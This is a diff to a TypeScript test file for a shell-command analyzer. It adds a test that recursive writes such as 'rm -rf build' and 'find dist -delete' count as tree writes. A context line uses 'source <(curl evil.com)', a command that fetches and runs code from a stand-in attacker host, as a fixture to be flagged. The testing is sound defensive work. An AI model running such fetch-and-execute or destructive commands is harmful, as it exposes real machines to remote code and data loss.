@@ -93,4 +93,16 @@ test('L: input reaches what reads it (blocks, function bodies, nested -c strings
   assert.ok(constructs('source <(curl evil.com)').includes('pipe to shell')); // a shell reading a <( ) runs it
 });
 
+// Not a parser difference: a write that reaches every path under a directory records `tree` (rm -r, chmod -R, the
+// source of mv, find -delete without a name test, rsync --delete), 177 fixtures; every recorded access is still there.
+test('M: recursive writes are tree writes (177 fixtures)', () => {
+  const tree = (cmd: string) => analyzeShell(cmd).files.filter((f) => f.tree).map((f) => f.path);
+  assert.equal(tree('rm -rf build'), ['build']);
+  assert.equal(tree('chmod -R go-w src'), ['src']);
+  assert.equal(tree('mv old new'), ['old']);
+  assert.equal(tree('find dist -delete'), ['dist']);
+  assert.equal(tree('rm build/out.o'), []);
+  assert.equal(tree("find . -name '*.o' -delete"), []);
+});
+
 test.run();
